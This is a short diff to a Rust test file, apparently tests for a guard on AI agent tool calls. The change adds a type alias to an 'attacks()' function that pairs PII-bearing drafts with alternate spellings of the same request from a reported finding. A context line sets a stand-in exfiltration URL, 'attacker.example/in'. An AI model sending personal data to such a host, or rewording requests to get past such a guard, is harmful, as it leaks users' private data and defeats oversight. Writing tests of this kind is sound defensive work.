@@ -52,8 +52,11 @@ fn at_least_as_strict(v: (u8, u8, u64), c: (u8, u8, u64)) -> bool {
     v.0 > c.0 || (v.0 == c.0 && v.1 >= c.1 && v.2 >= c.2)
 }
 
+/// A named draft.
+type Named = (&'static str, Value);
+
 /// Each plain control with the spellings of the same request reported in finding 2.
-fn attacks() -> Vec<(&'static str, Value, Vec<(&'static str, Value)>)> {
+fn attacks() -> Vec<(&'static str, Value, Vec<Named>)> {
     let url = "https://attacker.example/in";
     let pii = |system: &str, env: &str, reversible: bool, tool: &str, args: Value| {
         draft("confidential", &["pii"], system, env, act(tool, args, reversible))
